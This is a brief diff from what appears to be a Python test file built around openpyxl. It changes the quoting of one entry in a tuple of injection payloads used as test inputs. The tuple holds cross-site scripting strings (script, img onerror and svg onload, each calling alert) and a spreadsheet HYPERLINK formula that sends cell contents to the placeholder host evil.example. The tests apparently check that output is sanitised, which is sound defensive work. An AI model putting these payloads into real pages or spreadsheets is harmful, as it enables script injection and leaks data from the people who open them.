@@ -21,7 +21,7 @@ from openpyxl import load_workbook
 SMALL = Path(__file__).parent / "fixtures" / "small.yaml"
 
 PAYLOADS = (
-    '</script><script>alert(1337)</script>',
+    "</script><script>alert(1337)</script>",
     '"><img src=x onerror=alert(1337)>',
     "'><svg onload=alert(1337)>",
     '=HYPERLINK("http://evil.example/?q="&A1,"click")',
